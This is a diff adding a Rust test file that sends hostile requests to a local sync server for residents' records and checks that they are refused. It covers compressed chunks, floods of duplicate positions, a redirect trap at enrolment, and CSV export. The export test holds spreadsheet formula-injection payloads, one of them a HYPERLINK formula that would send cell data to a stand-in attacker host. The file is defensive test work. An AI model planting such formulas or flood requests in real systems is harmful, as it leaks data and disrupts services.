@@ -1,0 +1,193 @@
+//! Bad input sent from outside, as an attacker would send it: a real server on port 0, the
+//! request as bytes. Each test shows a clear refusal (a stable code), the server still
+//! answering, and nothing stored changed (issue 10). The compressed-change bomb, which also
+//! watches the process's memory, is `compressed_bomb.rs` (a binary of its own).
+
+use automerge::Automerge;
+use gridkeeper_tests::{TestDevice, TestServer, resident};
+use serde_json::Value;
+use sync_protocol::doc::{self, DocKey, Edit};
+use sync_protocol::model::Record;
+use sync_protocol::org::{Author, Role};
+use sync_protocol::schema::Collection;
+use sync_protocol::wire::{GridPosition, OutChange, PROTOCOL_VERSION, SyncRequest, SyncResponse};
+use uuid::Uuid;
+
+/// What the server stores, to show that a refused request changed none of it.
+async fn fingerprint(server: &TestServer) -> (county_server::storage::StorageStats, Vec<(String, Vec<u8>)>) {
+    let s = server.storage();
+    let keys =
+        [DocKey::new(server.org.grid_a, Collection::Residents), DocKey::new(server.org.grid_b, Collection::Residents)];
+    let docs = s.load_docs(&keys).await.unwrap().into_iter().map(|d| (d.key.to_string(), d.bytes)).collect();
+    (s.stats().await.unwrap(), docs)
+}
+
+async fn post_sync(server: &TestServer, token: &str, body: Vec<u8>) -> (u16, Vec<u8>) {
+    let resp = reqwest::Client::new()
+        .post(format!("{}/v1/sync", server.url()))
+        .bearer_auth(token)
+        .body(body)
+        .send()
+        .await
+        .unwrap();
+    (resp.status().as_u16(), resp.bytes().await.unwrap().to_vec())
+}
+
+fn error_code(body: &[u8]) -> String {
+    let v: Value =
+        serde_json::from_slice(body).unwrap_or_else(|_| panic!("not JSON: {}", String::from_utf8_lossy(body)));
+    assert!(v["message"].as_str().is_some_and(|m| !m.is_empty()), "an error without a message: {v}");
+    v["code"].as_str().unwrap().to_string()
+}
+
+async fn worker_a(server: &TestServer) -> (TestDevice, String) {
+    let a = TestDevice::enrol(&server.url(), &server.code_for(server.org.worker_a).await, "worker A").await;
+    a.create_resident(&resident("陈立", "1970-03-03", "011")).unwrap();
+    a.sync().await.unwrap();
+    let token = a.identity().unwrap().token;
+    (a, token)
+}
+
+/// A compressed change chunk (Automerge's chunk type 2) is refused from its header: the server
+/// never inflates it.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_compressed_change_is_refused_from_its_header() {
+    let server = TestServer::start().await;
+    let (a, token) = worker_a(&server).await;
+    let id = a.identity().unwrap();
+    let author = Author { account: id.account.id, device: id.device_id, role: Role::GridWorker };
+    let mut r = resident("长备注", "1980-05-05", "055");
+    r.notes = Some("独居老人，子女在外地务工，每月探望一次。".repeat(20));
+    let key = DocKey::new(server.org.grid_a, Collection::Residents);
+    let edit = Edit { doc: key, record: r.id, creating: true, fields: r.to_fields() };
+    let mut change =
+        doc::make_change(&Automerge::new(), doc::actor_for(id.device_id, 0), &edit, &author, 1_764_000_000_000)
+            .unwrap()
+            .unwrap();
+    let compressed = change.bytes().to_vec();
+    assert!(
+        doc::is_compressed_chunk(&compressed),
+        "Automerge compresses a change of {} bytes",
+        change.raw_bytes().len()
+    );
+    let before = fingerprint(&server).await;
+
+    let body = SyncRequest {
+        version: PROTOCOL_VERSION,
+        positions: vec![],
+        changes: vec![OutChange { doc: key, bytes: compressed }],
+    }
+    .encode();
+    let (status, bytes) = post_sync(&server, &token, body).await;
+    assert_eq!(status, 200);
+    let answer = SyncResponse::decode(&bytes).unwrap();
+    let codes: Vec<&str> = answer.refused.iter().map(|r| r.code.as_str()).collect();
+    assert_eq!(codes, ["compressed_change"]);
+    assert_eq!(fingerprint(&server).await, before, "a refused change stores nothing");
+    // The server still works for the same device.
+    assert_eq!(a.sync().await.unwrap().refused, 0);
+}
+
+/// A position named twice, or more positions than a county has grids, is refused before any
+/// grid is looked up; 100,000 copies of one position kept the server busy for 16–28 s before.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn positions_named_twice_or_by_the_thousand_are_refused() {
+    let server = TestServer::start().await;
+    let (a, token) = worker_a(&server).await;
+    let before = fingerprint(&server).await;
+    let grid = server.org.grid_a;
+
+    // 100,000 copies of one position (1.8 MB): over the cap, refused before anything is read.
+    let copies = vec![GridPosition { grid, seq: 1 }; 100_000];
+    let body = SyncRequest { version: PROTOCOL_VERSION, positions: copies, changes: vec![] }.encode();
+    let (status, bytes) = post_sync(&server, &token, body).await;
+    assert_eq!((status, error_code(&bytes).as_str()), (400, "too_many_positions"));
+
+    // Under the cap, a grid named twice.
+    let twice = vec![
+        GridPosition { grid, seq: 1 },
+        GridPosition { grid: server.org.grid_b, seq: 1 },
+        GridPosition { grid, seq: 2 },
+    ];
+    let body = SyncRequest { version: PROTOCOL_VERSION, positions: twice, changes: vec![] }.encode();
+    let (status, bytes) = post_sync(&server, &token, body).await;
+    assert_eq!((status, error_code(&bytes).as_str()), (400, "duplicate_position"));
+
+    let many: Vec<GridPosition> = (0..2_001).map(|_| GridPosition { grid: Uuid::now_v7(), seq: 1 }).collect();
+    let body = SyncRequest { version: PROTOCOL_VERSION, positions: many, changes: vec![] }.encode();
+    let (status, bytes) = post_sync(&server, &token, body).await;
+    assert_eq!((status, error_code(&bytes).as_str()), (400, "too_many_positions"));
+
+    assert_eq!(fingerprint(&server).await, before);
+    a.create_resident(&resident("郑华", "1971-04-04", "022")).unwrap();
+    assert_eq!(a.sync().await.unwrap().acknowledged, 1, "the device syncs as before");
+}
+
+/// A note that a spreadsheet would run as a formula leaves a CSV export as text.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_csv_export_carries_no_formula() {
+    let server = TestServer::start().await;
+    let a = TestDevice::enrol(&server.url(), &server.code_for(server.org.worker_a).await, "worker A").await;
+    let formulas = ["=HYPERLINK(\"http://evil.example/?\"&F2,\"点击查看\")", "+1+2", "-2+3", "@SUM(A1)", "\t=1+1"];
+    for (i, note) in formulas.iter().enumerate() {
+        let mut r = resident(&format!("居民{i}"), "1970-01-01", &format!("{:03}", 101 + 2 * i));
+        r.notes = Some(note.to_string());
+        a.create_resident(&r).unwrap();
+    }
+    a.sync().await.unwrap();
+    let admin = TestDevice::enrol(&server.url(), &server.code_for(server.org.admin).await, "admin").await;
+    let resp = reqwest::Client::new()
+        .get(format!("{}/v1/admin/grids/{}/roster?format=csv", server.url(), server.org.grid_a))
+        .bearer_auth(admin.identity().unwrap().token)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(resp.status().as_u16(), 200);
+    let csv = resp.text().await.unwrap();
+    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(csv.as_bytes());
+    let mut seen = 0;
+    for record in reader.records() {
+        for cell in record.unwrap().iter() {
+            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a cell a spreadsheet runs: {cell:?}");
+            if formulas.iter().any(|f| cell == format!("'{f}")) {
+                seen += 1;
+            }
+        }
+    }
+    assert_eq!(seen, formulas.len(), "every note is exported, behind an apostrophe");
+}
+
+/// The device never follows a redirect: a 307 would have it send the same body (here an
+/// enrolment code) again, to wherever it points, plain `http://` included.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_device_never_follows_a_redirect() {
+    use tokio::io::{AsyncReadExt, AsyncWriteExt};
+    let elsewhere = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let target = elsewhere.local_addr().unwrap();
+    let hits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
+    let counted = hits.clone();
+    tokio::spawn(async move {
+        while let Ok((mut s, _)) = elsewhere.accept().await {
+            counted.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
+            let _ = s.write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\n{}").await;
+        }
+    });
+    let redirecting = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let url = format!("http://{}", redirecting.local_addr().unwrap());
+    tokio::spawn(async move {
+        while let Ok((mut s, _)) = redirecting.accept().await {
+            let mut buf = vec![0u8; 16 * 1024];
+            let _ = s.read(&mut buf).await;
+            let answer = format!(
+                "HTTP/1.1 307 Temporary Redirect\r\nlocation: http://{target}/v1/enrol\r\ncontent-length: 0\r\n\r\n"
+            );
+            let _ = s.write_all(answer.as_bytes()).await;
+        }
+    });
+    let dir = tempfile::tempdir().unwrap();
+    let device = field_core::Device::open(&dir.path().join("device.db")).unwrap();
+    let err = device.enrol(&url, "ABCD-EFGH-JKLM", "handheld").await.unwrap_err();
+    assert_eq!(err.code().as_str(), "unexpected_response", "{err}");
+    assert_eq!(hits.load(std::sync::atomic::Ordering::SeqCst), 0, "the code went nowhere else");
+    assert!(device.identity().is_none());
+}
